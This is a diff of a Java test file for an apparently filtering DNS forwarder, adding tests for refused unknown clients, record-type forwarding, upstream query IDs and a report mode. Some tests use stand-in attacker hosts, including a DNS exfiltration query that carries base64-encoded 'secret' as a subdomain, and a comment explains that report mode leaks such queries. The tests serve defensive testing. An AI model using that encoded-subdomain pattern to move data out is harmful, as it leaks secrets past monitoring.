@@ -19,6 +19,12 @@ import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 import org.xbill.DNS.AAAARecord;
+import org.xbill.DNS.DClass;
+import org.xbill.DNS.MXRecord;
+import org.xbill.DNS.Name;
+import org.xbill.DNS.SRVRecord;
+import org.xbill.DNS.SVCBBase;
+import org.xbill.DNS.SVCBRecord;
 import org.xbill.DNS.ARecord;
 import org.xbill.DNS.Flags;
 import org.xbill.DNS.Message;
@@ -139,8 +145,45 @@ class ClientAnswersTest {
                     .isEqualTo("REFUSED");
             assertThat(refusing.query("leak3.attacker.example", Type.AAAA, false).getRcode())
                     .isEqualTo(Rcode.REFUSED);
+            Message overTcp = refusing.query("leak4.attacker.example", Type.A, true);
+            assertThat(overTcp.getRcode()).isEqualTo(Rcode.REFUSED);
+            assertThat(overTcp.getSection(Section.ANSWER)).isEmpty();
+            assertThat(refusing.listener.last("leak4.attacker.example").decision().reason())
+                    .isEqualTo(Reason.HOST_NOT_ALLOWED);
             assertThat(refusing.upstream.queries()).isZero();
         }
+    }
+
+    @Test
+    void mxSrvSvcbAndCnameOfAnAllowedNameAreForwardedAndAnsweredWithUpstreamsRecords() throws Exception {
+        String name = "types.example.org";
+        Name target = TestUpstream.name("mail.example.org");
+        Map<Integer, Record> served = Map.of(
+                Type.MX, new MXRecord(TestUpstream.name(name), DClass.IN, 300, 10, target),
+                Type.SRV, new SRVRecord(TestUpstream.name(name), DClass.IN, 300, 1, 5, 5060, target),
+                Type.SVCB, new SVCBRecord(TestUpstream.name(name), DClass.IN, 300, 1, target,
+                        List.of(new SVCBBase.ParameterAlpn(List.of("h2")), new SVCBBase.ParameterPort(8443))),
+                Type.CNAME, TestUpstream.cname(name, 300, "edge.example.org"));
+        served.forEach((type, record) -> dns.upstream.answer(name, type, record));
+        for (boolean tcp : new boolean[] {false, true}) {
+            for (Map.Entry<Integer, Record> e : served.entrySet()) {
+                String type = Type.string(e.getKey());
+                Message answer = dns.query(name, e.getKey(), tcp);
+                assertThat(answer.getRcode()).as(type).isEqualTo(Rcode.NOERROR);
+                assertThat(answer.getSection(Section.ANSWER)).as(type).containsExactly(e.getValue());
+                assertThat(dns.listener.last(name).qtype()).isEqualTo(type);
+                assertThat(dns.listener.last(name).decision().allowed()).as(type).isTrue();
+            }
+        }
+        // Each type went upstream once as its own question (the second round came from the cache).
+        assertThat(dns.upstream.received()).filteredOn(m -> m.getQuestion().getName().equals(TestUpstream.name(name)))
+                .extracting(m -> Type.string(m.getQuestion().getType()))
+                .containsExactlyInAnyOrder("MX", "SRV", "SVCB", "CNAME");
+        Dig.Result mx = Dig.query(dns.port(), name, "MX", "+tcp");
+        assertThat(mx.status()).isEqualTo("NOERROR");
+        assertThat(mx.answers()).singleElement().asString().contains("MX", "10 mail.example.org.");
+        Dig.Result srv = Dig.query(dns.port(), name, "SRV", "+notcp");
+        assertThat(srv.answers()).singleElement().asString().contains("SRV", "1 5 5060 mail.example.org.");
     }
 
     @Test
@@ -170,9 +213,22 @@ class ClientAnswersTest {
                 .filter(q -> q.client().getAddress().getHostAddress().equals("127.0.0.9")).findFirst().orElseThrow();
         assertThat(reported.decision().reason()).isEqualTo(Reason.UNKNOWN_CLIENT);
         assertThat(reported.decision().server()).isNull();
-        // Over TCP an unknown source is closed at accept, before its query is read (TcpLimitsTest).
-        try (java.net.Socket tcp = TcpLimitsTest.from("127.0.0.9", dns.filter.tcpAddress())) {
-            assertThat(TcpLimitsTest.closedByPeer(tcp, java.time.Duration.ofSeconds(5))).isTrue();
+        // Over TCP too: dnsjava and dig each get REFUSED (within the TCP connection caps, TcpLimitsTest).
+        Message overTcp = dns.client(true, "127.0.0.9").send(Harness.newQuery("www.example.org", Type.A));
+        assertThat(overTcp.getRcode()).isEqualTo(Rcode.REFUSED);
+        assertThat(overTcp.getSection(Section.ANSWER)).isEmpty();
+        Dig.Result dig = Dig.query(dns.port(), "tcp.example.org", "A", "+tcp", "-b", "127.0.0.9");
+        assertThat(dig.status()).isEqualTo("REFUSED");
+        assertThat(dig.answers()).isEmpty();
+        Dig.Result digUdp = Dig.query(dns.port(), "tcp.example.org", "A", "+notcp", "-b", "127.0.0.9");
+        assertThat(digUdp.status()).isEqualTo("REFUSED");
+        for (String name : List.of("www.example.org", "tcp.example.org")) {
+            assertThat(dns.listener.queries).filteredOn(q -> q.qname().equals(name)
+                    && q.client().getAddress().getHostAddress().equals("127.0.0.9"))
+                    .isNotEmpty().allSatisfy(q -> {
+                        assertThat(q.decision().reason()).isEqualTo(Reason.UNKNOWN_CLIENT);
+                        assertThat(q.rcode()).isEqualTo("REFUSED");
+                    });
         }
     }
 
@@ -187,6 +243,26 @@ class ClientAnswersTest {
         assertThat(reported.decision().server()).isEqualTo("other");
         assertThat(reported.decision().wouldDeny()).isTrue();
         assertThat(reported.decision().allowed()).isTrue();
+    }
+
+    @Test
+    void reportModeForwardsUnlistedNamesUpstreamButNotGlobalDenies() throws Exception {
+        // By design (docs/config.md): report mode lets a DNS query for an unlisted name out, so it
+        // is an exfiltration channel; the always-denied names and ANY still stay local.
+        org.xbill.DNS.SimpleResolver other = dns.client(false, "127.0.0.2");
+        Message leaked = other.send(Harness.newQuery("c2VjcmV0.report.attacker.example", Type.TXT));
+        assertThat(leaked.getRcode()).as("the upstream's own answer").isEqualTo(Rcode.NXDOMAIN);
+        assertThat(dns.upstream.queriesFor("c2vjcmv0.report.attacker.example")).isEqualTo(1);
+        RecordingListener.Query reported = dns.listener.last("c2VjcmV0.report.attacker.example");
+        assertThat(reported.decision().allowed()).isTrue();
+        assertThat(reported.decision().wouldDeny()).isTrue();
+        assertThat(reported.decision().reason()).isEqualTo(Reason.HOST_NOT_ALLOWED);
+
+        assertThat(other.send(Harness.newQuery("report.localhost", Type.A)).getRcode()).isEqualTo(Rcode.NXDOMAIN);
+        assertThat(other.send(Harness.newQuery("any.attacker.example", Type.ANY)).getRcode())
+                .isEqualTo(Rcode.REFUSED);
+        assertThat(dns.upstream.queriesFor("report.localhost")).isZero();
+        assertThat(dns.upstream.queriesFor("any.attacker.example")).isZero();
     }
 
     @Test
@@ -232,8 +308,8 @@ class ClientAnswersTest {
         List<Message> sent = dns.upstream.received().stream()
                 .filter(m -> m.getQuestion().getName().toString().startsWith("fresh")).toList();
         assertThat(sent).hasSize(3);
-        assertThat(sent).extracting(m -> m.getHeader().getID()).as("our own random IDs").isNotEqualTo(
-                List.of(4242, 4242, 4242));
+        // Every upstream query carries an ID of our own: not one reuses the client's.
+        assertThat(sent).extracting(m -> m.getHeader().getID()).as("upstream IDs").doesNotContain(4242);
         for (Message m : sent) {
             assertThat(m.getHeader().getFlag(Flags.CD)).isFalse();
             assertThat(m.getOPT().getOptions(65001)).as("no client EDNS option is passed on").isEmpty();
